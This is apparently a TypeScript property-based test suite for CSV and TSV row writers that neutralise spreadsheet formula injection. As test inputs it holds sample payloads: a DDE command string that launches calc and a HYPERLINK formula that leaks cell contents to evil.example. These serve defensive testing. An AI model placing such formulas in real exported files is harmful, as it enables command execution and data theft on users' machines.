import { array, assert, constant, double, oneof, property, string } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../src/rows/csvRow.js';
import { tsvRow } from '../../src/rows/tsvRow.js';
import { cpuTime, MAX_TASK } from '../cpuTime.js';
import { parseCsv } from './parseCsv.js';

const text = oneof(
  string({ unit: 'binary' }),
  array(oneof(...['"', ',', '\r', '\n', '\t', ';', 'a', '=', '-', ' ', 'é'].map((each) => constant(each)))).map((all) =>
    all.join(''),
  ),
);
const values = array(oneof(text, constant(null), double()), { minLength: 1, maxLength: 6 });

const only = (value: unknown) => parseCsv(csvRow([value]))[0]?.[0]?.text;

describe('csvRow', () => {
  it('round-trips through a CSV reader, with null distinct from empty text', () => {
    assert(
      property(array(values, { maxLength: 5 }), (rows) => {
        const read = parseCsv(rows.map((row) => csvRow(row, { guardFormulas: false })).join(''));
        expect(
          read.map((row) => row.map((field) => (field.text === '' && !field.isQuoted ? null : field.text))),
        ).toEqual(rows.map((row) => row.map((value) => (value === null ? null : String(value)))));
      }),
    );
  });

  it('adds at most an apostrophe to a field when the guard is on', () => {
    assert(
      property(values, (row) => {
        for (const [index, field] of (parseCsv(csvRow(row))[0] ?? []).entries()) {
          const value = row[index] === null ? '' : String(row[index]);
          expect([value, `'${value}`]).toContain(field.text);
        }
      }),
    );
  });

  it('writes no field that a spreadsheet would run', () => {
    assert(
      property(text, (value) => {
        const seen = (only(value) ?? '').replace(/^[\s\p{Cc}\p{Cf}]+/u, '').normalize('NFKC');
        expect(/^[=@]|^[+-](?!(\d+\.?\d*|\.\d+)(e[+-]?\d+)? *$)./i.test(seen)).toBe(false);
      }),
    );
  });

  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '\t=1+1',
    '\tplain',
    '\rplain',
    '\nplain',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '=HYPERLINK("https://evil.example?x="&A1,"Go")',
    "=cmd|' /C calc'!A0",
    '-2+3+cmd|calc',
    '-Infinity',
    '--1',
  ])('puts an apostrophe before %j', (attack) => {
    expect(only(attack)).toBe(`'${attack}`);
  });

  it.each(['-5', '+1.5e3', '-.5', ' -5', '-', '-0', -5, 1e21, '9007199254740993', 'a=b', 'a-b', "O'Brien", '3+4', '½'])(
    'leaves %j as it is',
    (value) => {
      expect(only(value)).toBe(String(value));
    },
  );

  it.each(["harmless;=cmd|' /C calc'!A0", 'harmless\t=1+1'])(
    'keeps %j in one cell of a spreadsheet that splits at other signs than commas',
    (attack) => {
      expect(csvRow([attack, 'a=b'])).toBe(`"${attack}",a=b\r\n`);
    },
  );

  it('guards column names, and writes formulas unchanged with the guard off', () => {
    expect(csvRow(['=a', 'b'])).toBe('"\'=a",b\r\n');
    expect(csvRow(['=a', '-1+1'], { guardFormulas: false })).toBe('=a,-1+1\r\n');
  });

  it('keeps every digit and writes objects as JSON', () => {
    expect(csvRow(['9007199254740993', 9007199254740993n, { a: 1 }, true])).toBe(
      '9007199254740993,9007199254740993,"{""a"":1}",true\r\n',
    );
  });
});

describe('tsvRow', () => {
  it('keeps a value with tabs, quotes or line breaks in one cell', () => {
    expect(tsvRow(['a\tb', 'c\nd', '"e"', 'f"g'])).toBe('"a\tb"\t"c\nd"\t"""e"""\tf"g');
  });

  it('guards against formulas and writes null as an empty field', () => {
    expect(tsvRow(['=1+1', null, '', -5])).toBe("'=1+1\t\t\t-5");
    expect(tsvRow(['=1+1'], false)).toBe('=1+1');
  });

  it.each([csvRow, tsvRow])('takes no longer for 600,000 digits than for any other text', (write) => {
    expect(cpuTime(() => write([`-${'1'.repeat(600_000)}x`]))).toBeLessThan(MAX_TASK);
  });
});
